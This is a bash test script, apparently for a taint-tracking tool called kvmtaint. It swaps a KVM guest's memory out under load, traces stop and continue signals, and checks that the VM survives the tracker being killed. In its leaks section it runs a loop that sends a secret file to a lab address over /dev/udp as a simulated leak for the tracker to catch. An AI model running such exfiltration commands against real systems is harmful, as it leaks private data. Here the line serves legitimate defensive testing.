# SPDX-License-Identifier: GPL-2.0
# shellcheck shell=bash
# In L1: guest memory that the host has swapped out. Flows with fresh processes
# run while the guest's RAM is pushed out again and again; what was seen is in
# $OUT for tests/suites/30-absent-pages to judge.
set -u
rounds=60
leaks=20
tracing=/sys/kernel/tracing
host=$IN/host.py

state() { # of the VMM: R, S, T...
	sed 's/.*) //; s/ .*//' "/proc/$VMM/stat"
}

now() { # milliseconds
	local t
	read -r t _ </proc/uptime
	echo "${t/./}0"
}

start_kvmtaint() { # NAME
	kvmtaint --vm "$VMM" --no-scan --secret lab=/srv/secret/ >"$OUT/$1.jsonl" 2>"$OUT/$1.stderr" &
	kvmtaint=$!
	for ((i = 0; i < 600; i++)); do
		grep -q '"type":"start"' "$OUT/$1.jsonl" && return
		sleep 0.1
	done
	echo "kvmtaint did not start"
	exit 1
}

swap_on() {
	modprobe zram
	echo 1G >/sys/block/zram0/disksize
	mkswap /dev/zram0 >/dev/null
	swapon /dev/zram0
}

# What stops and lets go the VM, with its time.
trace_stops() {
	echo "sig == 19 || (sig == 18 && pid == $VMM)" >$tracing/events/signal/signal_generate/filter
	echo 1 >$tracing/events/signal/signal_generate/enable
	echo 1 >$tracing/tracing_on
}

echo "# kernel $(uname -r)"
swap_on
guest 'mkdir -p /srv/secret && head -c 4000 /dev/urandom | base64 >/srv/secret/a && sync'
guest 'dmesg >/tmp/dmesg.before'
start_kvmtaint flows
trace_stops
python3 "$host" push-out "$VMM" 2 >"$OUT/push-out" 2>&1 &
push=$!
sleep 1
for kind in pipe unix dgram; do
	echo "# race $kind"
	guest -t 180 "race $kind $rounds /tmp/$kind.list /srv/secret/a"
	echo "status $?"
	guest "cat /tmp/$kind.list" >"$OUT/$kind.list"
done
echo "# leaks"
guest -t 180 "for ((i = 0; i < $leaks; i++)); do bash -c 'cat /srv/secret/a >/dev/udp/10.9.0.1/9000'; done"
echo "status $?"
echo "$leaks" >"$OUT/leaks"
kill -INT $push
wait $push
sleep 1
state >"$OUT/state"
kill -INT $kvmtaint
wait $kvmtaint
echo "kvmtaint ended with status $?"
cp $tracing/trace "$OUT/stops"
guest 'dmesg | diff /tmp/dmesg.before -' >"$OUT/l2.dmesg"
grep -E 'pswp|pgmajfault' /proc/vmstat
grep -E 'Swap' /proc/meminfo

echo "# killed while the VM stands"
# Readers sleep, the host takes all the guest's memory, a managed process writes:
# the writer's scan wants the readers' stacks, which the guest has not touched since.
start_kvmtaint killed
guest 'cd /tmp && for i in 1 2 3 4 5 6 7 8; do mkfifo f$i; cat <>f$i >/dev/null & done; sleep 1' >/dev/null
kill -STOP $kvmtaint
python3 "$host" push-out-once "$VMM" >/dev/null
guest -t 30 'cd /tmp && for i in 1 2 3 4 5 6 7 8; do cat /srv/secret/a >f$i; done' >/dev/null 2>&1 &
writer=$!
stood=0
for ((i = 0; i < 600 && !stood; i++)); do
	[ "$(state)" != T ] || stood=1
	sleep 0.05
done
echo "$stood" >"$OUT/stood"
sleep 2
state >"$OUT/state.before-kill"
from=$(now)
kill -9 $kvmtaint
while [ "$(state)" = T ] && [ $(($(now) - from)) -lt 20000 ]; do
	sleep 0.02
done
echo $(($(now) - from)) >"$OUT/ms-to-run"
wait $writer
state >"$OUT/state.after-kill"
guest 'echo alive' >"$OUT/alive"
echo 0 >$tracing/events/signal/signal_generate/enable
